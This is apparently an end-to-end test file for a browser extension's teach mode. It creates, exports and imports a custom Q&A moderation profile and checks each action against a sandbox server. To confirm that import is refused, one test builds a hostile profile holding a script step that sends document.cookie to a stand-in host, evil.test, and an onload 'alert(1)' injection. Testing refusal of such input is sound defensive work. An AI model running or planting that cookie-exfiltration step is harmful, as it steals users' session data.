// Teach mode on the production build (issue 13): the sandbox's second widget (no ids, state by tab, a row
// menu with a confirmation dialog, a virtualised list in an open shadow root, German labels) under a tag
// no bundled profile matches, so the extension starts with NO profile for it. A scripted teach session in
// the panel and the picker overlay produces a custom profile with which approve, dismiss and both answers
// (and answer live, restore, claim and release) work through the panel, checked against the sandbox's
// server truth; the profile,
// exported and imported into a fresh browser profile, works the same; a malformed or hostile file is refused
// with a message that says what is wrong.
import { readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { Sandbox } from '../../sandbox/server';
import { ChromiumHarness } from './harness/chromium';
import { ask, panelIdOf, QnaPanel, truthOf, uniqueTag, waitTruth } from './harness/qna';
import { openUntaught, teachTheWidget, UNTAUGHT_LIVE } from './harness/teach';
import { waitFor } from './harness/wait';

/** The panel's Q&A view for the tab, once the taught (or imported) profile attached it. */
async function qnaView(panel: Page): Promise<QnaPanel> {
  const qna = new QnaPanel(panel);
  await waitFor('the panel to attach with the custom profile', () => panel.locator('[data-testid=panel]').getAttribute('data-state'), (s) => s === 'attached', { timeout: 20_000 });
  await panel.click('[data-testid=view-qna]', { timeout: 15_000 });
  await qna.waitReady();
  return qna;
}

/** Approve, dismiss, restore, claim and release, answer publicly and privately, answer live: each through the panel, checked on the server. */
async function moderateWithIt(sb: Sandbox, qna: QnaPanel): Promise<void> {
  const tag = uniqueTag('W');
  const a = ask(sb, `${tag} approve this`, { userId: 'work-a' });
  const d = ask(sb, `${tag} dismiss this`, { userId: 'work-d' });
  const t = ask(sb, `${tag} answer this`, { userId: 'work-t' });
  const l = ask(sb, `${tag} live this`, { userId: 'work-l' });
  const c = ask(sb, `${tag} claim this`, { userId: 'work-c' });
  const id = (x: string) => panelIdOf(sb, x, 'kep-variant');
  await qna.search(tag);
  for (const x of [a, d, t, l, c]) await qna.waitItem(id(x), 'pending', 15_000);

  await qna.rowAction(id(a), 'qna-approve');
  await waitTruth(sb, 'approved', a, (q) => q.state === 'approved');
  await qna.waitItem(id(a), 'approved');
  await qna.waitCommandsDone(id(a));

  await qna.waitItem(id(d), 'pending'); // shows its tab again
  await qna.rowAction(id(d), 'qna-dismiss');
  await waitTruth(sb, 'dismissed', d, (q) => q.state === 'dismissed');
  await qna.waitItem(id(d), 'dismissed');
  await qna.waitCommandsDone(id(d));
  // Restore (undo the dismiss): back in Pending, on the server and in the panel.
  await qna.rowAction(id(d), 'qna-restore');
  await waitTruth(sb, 'restored', d, (q) => q.state === 'pending');
  await qna.waitItem(id(d), 'pending');
  await qna.waitCommandsDone(id(d));

  // Claim and release: opening the reply box claims the question for this moderator, Release gives it back.
  await qna.waitItem(id(c), 'pending');
  await qna.rowAction(id(c), 'qna-answer-public');
  await qna.tid('qna-reply').waitFor({ timeout: 3_000 });
  await waitTruth(sb, 'claimed', c, (q) => q.handledBy !== null);
  await waitFor('the panel to say this moderator handles it', () => qna.tid('qna-claim-note').textContent(), (n) => /you handle/i.test(n ?? ''), { timeout: 5_000 });
  await qna.tid('qna-release').click();
  await waitTruth(sb, 'released', c, (q) => q.handledBy === null);
  // Release closes the reply box (the question is no longer this moderator's to answer).
  await qna.tid('qna-reply').waitFor({ state: 'detached', timeout: 5_000 });
  await qna.waitCommandsDone(id(c));

  await qna.waitItem(id(t), 'pending');
  await qna.answer(id(t), 'public', 'Yes, publicly.');
  await waitTruth(sb, 'a public answer', t, (q) => q.answers.some((x) => x.visibility === 'public'));
  await qna.waitItem(id(t), 'answered', 10_000);
  await qna.waitCommandsDone(id(t));
  await qna.answer(id(t), 'private', 'And privately.');
  await waitTruth(sb, 'a private answer', t, (q) => q.answers.some((x) => x.visibility === 'private'));
  expect(truthOf(sb, t).answers.map((x) => [x.visibility, x.text])).toEqual([
    ['public', 'Yes, publicly.'],
    ['private', 'And privately.'],
  ]);

  await qna.waitItem(id(l), 'pending');
  await qna.rowAction(id(l), 'qna-approve');
  await qna.waitItem(id(l), 'approved');
  await qna.waitCommandsDone(id(l));
  await qna.rowAction(id(l), 'qna-answered-live');
  await waitTruth(sb, 'answered live', l, (q) => q.answeredLive);
  await qna.waitItem(id(l), 'answered', 10_000);
  expect(await qna.failedCommands()).toEqual([]);
}

describe('teach mode on a widget no profile matches', () => {
  let sb: Sandbox;
  let h: ChromiumHarness;
  let exported = '';
  const dir = path.join(os.tmpdir(), `cnc-teach-${process.pid}`);

  beforeAll(async () => {
    const { startUntaughtSandbox } = await import('./harness/teach');
    sb = await startUntaughtSandbox();
    h = await ChromiumHarness.launch({ sandboxPort: sb.port });
  });
  afterAll(async () => {
    await h?.close();
    await sb?.close();
  });

  // First: the later tests save or import a profile for this widget, and the page then attaches with it.
  it('"the widget has none" is part of the draft: closing the panel and opening Teach again keeps it', async () => {
    const { tabId, panel } = await openUntaught(h);
    await panel.click('[data-testid=diagnostics-teach]');
    await panel.click('[data-testid=teach-reset]'); // a draft of its own, whatever an earlier test left
    await panel.click('[data-testid=teach-none-claim]');
    const pressed = (p: Page) => p.locator('[data-testid=teach-none-claim]').getAttribute('aria-pressed', { timeout: 5_000 });
    await waitFor('claim answered with "none"', () => pressed(panel), (v) => v === 'true', { timeout: 5_000 });
    await panel.close();
    const again = await h.openPanel(tabId);
    await again.click('[data-testid=diagnostics-teach]', { timeout: 20_000 });
    await waitFor('claim still answered with "none"', () => pressed(again), (v) => v === 'true', { timeout: 10_000 });
    expect(await again.locator('[data-testid=teach-recorded-claim]').textContent()).toMatch(/^None in this widget/);
    expect(await again.locator('[data-testid=teach-none-restore]').getAttribute('aria-pressed')).toBe('false');
  }, 60_000);

  it('a scripted teach session produces a profile with which approve, dismiss and both answers work', async () => {
    const t0 = Date.now();
    const run = await teachTheWidget(h, sb, uniqueTag('L'));
    console.log(`[teach] taught in ${Date.now() - t0} ms`);
    // The preview showed what the draft read, row by row, before it was saved.
    const previewed = await run.panel.locator('[data-testid=teach-preview-row]').allTextContents();
    expect(previewed.some((r) => r.includes('approve me') && r.startsWith('approved'))).toBe(true);
    expect(previewed.some((r) => r.includes('mark me live'))).toBe(true);
    const qna = await qnaView(run.panel);
    await moderateWithIt(sb, qna);
    console.log(`[teach] taught and moderated in ${Date.now() - t0} ms`);
    // Export: the file a colleague gets.
    await run.panel.click('[data-testid=view-page]');
    await run.panel.click('[data-testid=diagnostics-teach]');
    const [download] = await Promise.all([run.panel.waitForEvent('download'), run.panel.click('[data-testid=custom-profile-export]')]);
    expect(download.suggestedFilename()).toMatch(/^cnc-profile-taught-.+\.json$/);
    exported = readFileSync((await download.path())!, 'utf8');
    expect(JSON.parse(exported)).toMatchObject({ version: 2, widgetRoot: 'fragen-moderation', qna: { list: { shadow: ['fragen-moderation'] } } });
    console.log(`[teach] the scripted session took ${run.clicks} clicks`);
  }, 240_000);

  it('in a fresh browser profile: a malformed or hostile file is refused with what is wrong; the exported one, imported, works the same', async () => {
    expect(exported, 'the first test exported a profile').not.toBe('');
    await h.close();
    h = await ChromiumHarness.launch({ sandboxPort: sb.port });
    const { page, panel } = await openUntaught(h);
    await panel.click('[data-testid=diagnostics-teach]');
    await panel.locator('[data-testid=custom-profile]').waitFor({ timeout: 10_000 });
    const importFile = async (name: string, text: string) => {
      const file = path.join(dir, name);
      await import('node:fs').then((fs) => fs.mkdirSync(dir, { recursive: true }));
      writeFileSync(file, text);
      await panel.setInputFiles('[data-testid=custom-profile-import]', file);
    };
    const refusedWith = async (expected: RegExp) =>
      waitFor('the import to be refused with a reason', () => panel.locator('[data-testid=custom-profile-error]').textContent({ timeout: 200 }).catch(() => null), (t) => t !== null && expected.test(t), { timeout: 5_000 });

    await importFile('broken.json', exported.slice(0, exported.length / 2));
    await refusedWith(/^This profile is refused: \(file\): not JSON/);
    const hostile = JSON.parse(exported);
    hostile.qna.actions.approve.steps.push({ script: 'fetch("https://evil.test/?" + document.cookie)' });
    hostile.onload = 'alert(1)';
    await importFile('hostile.json', JSON.stringify(hostile));
    await refusedWith(/onload: unknown section/);
    const wrong = JSON.parse(exported);
    wrong.qna.list.row = 'div[[';
    await importFile('wrong.json', JSON.stringify(wrong));
    await refusedWith(/qna\.list\.row: not a valid CSS selector 'div\[\['/);
    expect(await panel.locator('[data-testid=custom-profile-current]').textContent()).toMatch(/^None/);
    expect(await panel.locator('[data-testid=panel]').getAttribute('data-state')).toBe('kaltura-no-cnc');

    await importFile('good.json', exported);
    await panel.locator('[data-testid=custom-profile-ok]').waitFor({ timeout: 5_000 });
    await page.waitForSelector(UNTAUGHT_LIVE);
    const qna = await qnaView(panel);
    await moderateWithIt(sb, qna);
  }, 180_000);
});
